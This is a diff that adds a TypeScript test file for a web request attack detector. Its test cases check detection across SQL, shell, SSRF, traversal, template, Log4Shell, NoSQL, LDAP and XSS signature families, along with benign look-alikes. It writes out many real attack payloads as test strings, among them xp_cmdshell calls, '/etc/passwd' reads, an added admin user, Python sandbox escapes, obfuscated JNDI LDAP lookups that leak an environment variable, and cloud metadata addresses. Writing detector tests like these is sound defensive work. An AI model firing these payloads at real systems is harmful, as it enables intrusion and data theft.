@@ -1,0 +1,174 @@
+import t from 'tap'
+import { AttackDetector, jndiLookup, type AttackInputs } from '../../src/insight/attacks.ts'
+import { sqlInjection, sqlStatement } from '../../src/insight/sql.ts'
+import { bareCommand, shellInjection } from '../../src/insight/shell.ts'
+import { jsonStrings, xmlTexts } from '../../src/insight/decode.ts'
+
+// The detector's signature families (docs/detection.md), each with what it matches and what it
+// deliberately does not. attacks.test.ts keeps the older behaviour and the ReDoS checks.
+
+const detector = new AttackDetector()
+const base: AttackInputs = { path: '/api/items', query: '', headers: { host: 'shop.example.com', 'user-agent': 'Mozilla/5.0 Firefox/127.0' }, body: null }
+const q = (value: string, name = 'q') => detector.detect({ ...base, query: `${name}=${encodeURIComponent(value)}` })
+const json = (doc: unknown, headers: Record<string, string> = {}) => detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json', ...headers }, body: Buffer.from(JSON.stringify(doc)) })
+const header = (name: string, value: string) => detector.detect({ ...base, headers: { ...base.headers, [name]: value } })
+
+t.test('SQL on tokens: breakouts in every context, SQL without a leading quote', async (t) => {
+  for (const p of [
+    "' or ''-'", "1'OR'a='a", '" or ""&"', "') or ('x')=('x", 'admin\'--', "admin') or ('1'='1'--",
+    ' ORDER BY 18-- ', "'+ SLEEP(10) + '", '1 AND 7506=9091 AND (5913=5913', 'HAVING 1=1#', 'WHERE 1=1 AND 1=0',
+    "',NULL,NULL)waitfor delay '0:0:20' /*", 'benchmark(50000000,MD5(1))--', '(SELECT * FROM (SELECT(SLEEP(5)))ecMj)#',
+    "'; exec master..xp_cmdshell 'ipconfig'--", '1 union all select 1,2,3--', "‘ or 1=1 --", 'select * from sysusers',
+    "' if(benchmark(3000000,md5(1)),null,null))  /*",
+  ]) t.ok(sqlInjection(p.toLowerCase()), p)
+  for (const p of [
+    "O'Brien", "I read 'Dune' and others like it", "Chris' and Anna's wedding", 'Please select the items from the list',
+    'SELECT * FROM users is slow, any idea?', 'SELECT name FROM products WHERE price < 10 -- is this right?', 'Select 3 options',
+    'time.sleep(5)', "print('#')", "\"Is the poor gentleman much hurt?\" she asked.", 'Delete from cart?, my_var = os.getenv("HOME")',
+    'cats and 1', 'if not isinstance(x, list) or not all(\n y >= 0 for y in x\n):', '# /// script\n# requires-python = ">=3.13"',
+  ]) t.notOk(sqlInjection(p.toLowerCase()), p)
+  t.ok(sqlStatement('select a from b'), 'a statement from its first word')
+  t.same(q(' ORDER BY 18-- '), ['sqli'])
+})
+
+t.test('shell on its grammar: separators then a program, substitutions, quote contexts, bare recon', async (t) => {
+  for (const p of ['&& ls -laR /etc', '| netsh firewall show state', '&& dir C:\\Users', "'|id|'", '$(whoami)', 'x`id`', ';$CMD', 'who$@ami', 'cat${IFS}/etc/passwd', '; net user hacker P@ss /ADD', '%0a id %0a'.replace(/%0a/g, '\n')]) {
+    t.ok(shellInjection(p.toLowerCase()) || bareCommand(p.toLowerCase()), p)
+  }
+  for (const p of ['Tom & Jerry', 'salt & pepper | more', 'definitions, & more', 'Run `ls -la` to see hidden files', "pub fn f(q: &str) -> Vec<&'a str>", '"""\nBase32 encoding\n"""', 'curl hair', 'cat food', 'ls -la']) {
+    t.notOk(shellInjection(p.toLowerCase()) || bareCommand(p.toLowerCase()), p)
+  }
+  t.ok(bareCommand('ipconfig /all'), 'a recon program on its own')
+  t.ok(bareCommand('ls -l /etc'), 'a listing aimed at the system')
+  t.ok(bareCommand('ls -l /'), 'a listing of the root')
+  t.ok(bareCommand('net localgroup administrators hacker /add'), "a sub-command's own words")
+  t.same(header('cookie', 'prefs=%26%26+dir+c:%5C'), ['rce'], 'a URL-encoded cookie value decoded as a form is')
+  t.notOk(bareCommand('ruby keeling'), 'an interpreter as a first name needs its option')
+  t.same(json({ steps: [{ run: 'npm ci && npm test' }] }), [], "a body's command field holds a command line")
+  t.same(json({ name: 'x; cat /etc/passwd' }), ['path_traversal', 'rce'])
+})
+
+t.test('SSRF in context: the request\'s own authority, parameter names, documents, spellings', async (t) => {
+  // the registry case: an npm publish carries its own tarball URL, at the registry's own address
+  const publish = (host: string) => json({ _id: 'pkg', name: 'pkg', versions: { '1.0.0': { name: 'pkg', version: '1.0.0', dist: { tarball: `http://${host}/pkg/-/pkg-1.0.0.tgz`, shasum: 'abc' } } }, _attachments: { 'pkg-1.0.0.tgz': { content_type: 'application/octet-stream', data: 'H4sIAAAA', length: 8 } } }, { host })
+  t.same(publish('127.0.0.1:4873'), [], 'a URL back at the host the request was sent to')
+  t.same(publish('localhost:4873'), [], 'loopback asked for by a client on loopback')
+  t.same(json({ url: 'http://127.0.0.1:4873/pkg' }, { host: 'registry.example.com' }), ['ssrf'], 'the same URL sent to a public host')
+  t.same(q('http://10.0.0.5/admin', 'image_url'), ['ssrf'])
+  t.same(q('http://10.0.0.5/admin', 'q'), [], 'a private URL searched for, not fetched')
+  t.same(q('http://169.254.169.254/latest/meta-data/', 'q'), ['ssrf'], 'a metadata address under any name')
+  for (const spelling of ['http://2130706433/', 'http://0x7f.1/', 'http://0177.0.0.1/', 'http://127.0.0.256/', 'http://⑯⑨。②⑤④。⑯⑨。②⑤④/', 'http://127.1.1.1:80\\@@127.2.2.2:80/', 'http://metadata.google.internal/', 'http://127.0.0.1.nip.io/']) {
+    t.ok(q(spelling, 'url').includes('ssrf'), spelling)
+  }
+  t.same(q('0x7f000001', 'callback'), ['ssrf'], 'a bare address under a URL parameter')
+  t.same(q('gopher://127.0.0.1:6379/_INFO', 'q'), ['ssrf'], 'a smuggling scheme')
+  t.same(q('https://example.com/a', 'url'), [])
+  t.same(header('referer', 'http://localhost:3000/checkout'), [], "the browser's own page URL")
+})
+
+t.test('path traversal by kind: climbing, absolute inclusion targets, encodings', async (t) => {
+  for (const p of ['/etc/hosts.deny', '/var/log/maillog', 'C:/xampp/apache/conf/httpd.conf', '..%u2215..%u2215..%u2215etc/passwd', '%uff0e%uff0e/%uff0e%uff0e/%uff0e%uff0e/etc/shadow', '..0x2f..0x2fetc/passwd', 'members/.htpasswd', '\\logs\\access_log']) {
+    t.same(q(p, 'file'), ['path_traversal'], p)
+  }
+  t.same(q('/configuration.php', 'page'), ['path_traversal'], 'a server file under a file parameter')
+  t.same(q('/configuration.php', 'q'), [], 'not under any parameter')
+  t.same(q("import Comparator from '../../../utils/comparator/Comparator'"), [], 'a relative import in code')
+  t.same(q('C:/Users/ann/Documents/notes.txt', 'file'), [], "a user's own document")
+  t.same(q('see ../README.md'), [])
+})
+
+t.test('template injection (ssti): expressions in a template language, not placeholders', async (t) => {
+  for (const p of ['{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', "{{''.__class__.__mro__[1].__subclasses__()}}", "{{['id']|filter('system')}}", '<#assign ex="freemarker.template.utility.Execute"?new()>', '{{ request }}']) {
+    t.ok(q(p).includes('ssti'), p)
+  }
+  for (const p of ['Hello ${name}, your order {{order_id}} shipped', 'List the files: `ls {{path/to/file}}` and then go on', '{{#rustdoc_include ../listings/x.rs}}', '${workspaceFolder}/src']) t.same(q(p), [], p)
+})
+
+t.test('server-side includes (ssi)', async (t) => {
+  t.same(q('<!--#echo var="DOCUMENT_ROOT"-->'), ['ssi'])
+  t.same(q('<!--#exec cmd="id"-->'), ['rce', 'ssi'], 'an exec include runs a command')
+  t.same(q('<esi:include src="http://evil.example/x"/>'), ['ssi'])
+  t.same(q('<!-- a comment -->'), [])
+})
+
+t.test('response splitting (crlf): a header or a body after a line break where none belongs', async (t) => {
+  t.same(detector.detect({ ...base, query: 'lang=en%0d%0aSet-Cookie:%20admin=1' }), ['crlf'])
+  t.same(detector.detect({ ...base, path: '/%0d%0aLocation:%20https://evil.example/' }), ['crlf'])
+  t.same(detector.detect({ ...base, query: 'q=crlf%E5%98%8A%E5%98%8DHeader-Test:x' }), ['crlf'], 'the 嘊嘍 bytes some servers cut to CR LF')
+  t.same(detector.detect({ ...base, query: 'q=Hi%0aName:%20Bob' }), [], 'a message with a line that looks like a field')
+  t.same(json({ note: 'x\r\nSet-Cookie: a=1' }), [], 'a JSON body does not end up in response headers')
+})
+
+t.test('open redirects: disguised URLs in redirect parameters and paths; plain OAuth return URLs are not', async (t) => {
+  for (const p of ['//evil.example/', '/\\evil.example', 'https:evil.example', 'https://trusted.example@evil.example/', '/\t/evil.example', 'javascript:alert(1)', 'https://evil.example%23.trusted.example/', 'ゝevil.example']) {
+    t.ok(q(p, 'next').includes('open_redirect'), p)
+  }
+  t.same(q('https://app.example.com/callback', 'redirect_uri'), [])
+  t.same(q('/account/settings', 'next'), [])
+  t.same(json({ cdn: { url: '//fonts.example.net/css' } }), [], "a body's `url` field is a resource's, not a redirect")
+  t.same(json({ redirect_uri: '//evil.example/' }), ['open_redirect'], "a body's redirect field is one")
+  t.same(q('//evil.example/', 'q'), [], 'not a redirect parameter')
+  t.same(detector.detect({ ...base, path: '//evil.example/%2f..' }), ['open_redirect'])
+  t.same(detector.detect({ ...base, path: '/redirect/evil.example' }), ['open_redirect'])
+})
+
+t.test('backup and configuration probes (scanner)', async (t) => {
+  for (const p of ['/admin.php.bak', '/index.php~', '/config.inc.old', '/Copy%20of%20login.asp', '/.bash_history', '/.login.php.swp', '/vtund.conf', '/actuator/env', '/db.sql']) {
+    t.same(detector.detect({ ...base, path: p }), ['scanner'], p)
+  }
+  t.same(detector.detect({ ...base, path: '/.well-known/openid-configuration' }), [])
+  t.same(detector.detect({ ...base, path: '/api/v1/items/42' }), [])
+})
+
+t.test('Log4Shell lookups resolved as Log4j does', async (t) => {
+  for (const p of ['${jnd${upper:ı}:ldap://x.example/a}', '${j${k8s:k5:-ND}i:ldap://x.example/a}', '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a}', '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}', "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}", '${jndi:ldap://${env:USER}.x.example/a}']) {
+    t.ok(jndiLookup(p.toLowerCase()), p)
+  }
+  t.notOk(jndiLookup('hello ${name}, ${env:home}'), 'lookups that are no JNDI')
+  t.same(header('x-api-version', '${j${k8s:k5:-ND}i:ldap://x.example/a}'), ['jndi'], 'reported as jndi, not ssrf')
+})
+
+t.test('NoSQL JavaScript and LDAP filter breaking', async (t) => {
+  t.same(json({ q: "true, $where: '1 == 1'" }), ['nosqli'])
+  t.same(q('0;return true'), ['nosqli'])
+  t.same(q("' || '1'=='1"), ['sqli', 'nosqli'])
+  t.same(q('*)(&', 'user'), ['ldapi'])
+  t.same(q('(&(sn=administrator)(password=M*))', 'user'), ['ldapi'])
+  t.same(q('f(x)(y) = 2'), [])
+})
+
+t.test('XSS: legacy vectors and script sinks on their own', async (t) => {
+  for (const p of ['<IMG DYNSRC="javascript:alert(\'XSS\')">', '<STYLE>BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>', '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">', '<BR SIZE="&{alert(\'XSS\')}">', '}alert(1);{//', 'a=eval;b=alert;a(b(1))', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', 'A” autofocus onfocus=alert(1)//']) {
+    t.ok(q(p).includes('xss'), p)
+  }
+  t.same(q('<object type="image/svg+xml" data="diagram.svg">Diagram</object>'), [], 'an SVG embedded as an object')
+  t.same(q('The top-level `<script>` element serves as a container for the component code.'), [], 'markup quoted as code in prose')
+})
+
+t.test('every place a client can put a value is read', async (t) => {
+  const xss = '<svg onload=alert(1)>'
+  t.same(header('x-custom-data', xss), ['xss'], 'a custom header')
+  t.same(header('cookie', `theme=dark; ${encodeURIComponent(xss)}=1`), ['xss'], "a cookie's name")
+  t.same(detector.detect({ ...base, query: `${encodeURIComponent(xss)}=1` }), ['xss'], "a parameter's name")
+  t.same(detector.detect({ ...base, path: `/api/users/${encodeURIComponent("1' OR '1'='1")}` }), ['sqli'], 'a path segment')
+  t.same(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/xml' }, body: Buffer.from('<order><note>&lt;script&gt;alert(1)&lt;/script&gt;</note></order>') }), ['xss'], "an XML document's text")
+  t.same(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/xml' }, body: Buffer.from('<feed><link>https://example.com/</link><title>News</title></feed>') }), [], 'an XML element named like an HTML tag')
+  t.same(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`payload=${encodeURIComponent(JSON.stringify({ a: '<svg onload=alert(1)>' }))}`) }), ['xss'], 'a JSON document inside a form field')
+  t.same(header('accept-language', "en-US,en;q=0.9,' or 1=1"), [], 'transport headers a browser sets are not read')
+})
+
+t.test('documents: a configuration names its own services, files and commands', async (t) => {
+  const config = { name: 'app', services: { api: { url: 'http://localhost:8080', command: 'node server.js && echo ready', logs: '/var/log/app.log' } }, env: { NODE_ENV: 'production', PORT: '8080' }, build: { dir: '/tmp/build', steps: ['npm ci', 'npm test'] }, owner: 'ops', region: 'eu-west-1', tier: 'gold' }
+  t.same(json(config), [])
+  t.same(json({ ...config, hook: 'http://169.254.169.254/latest/meta-data/' }), ['ssrf'], 'a metadata address even in a document')
+})
+
+t.test('decoding helpers: JSON keys with values and depth, XML text and attributes', async (t) => {
+  const values = new Map<string, string>()
+  const keys = new Set<string>()
+  t.equal(jsonStrings({ a: { b: ['x', { c: 'y' }] } }, values, keys), 4)
+  t.same([...values], [['x', 'b'], ['y', 'c']])
+  const out: string[] = []
+  xmlTexts('<?xml version="1.0"?><a href="u"><b>t1</b><![CDATA[<raw>]]><!-- c --></a>', out)
+  t.same(out, ['href', 'u', 'b', 't1', 'b', '<raw>'])
+})
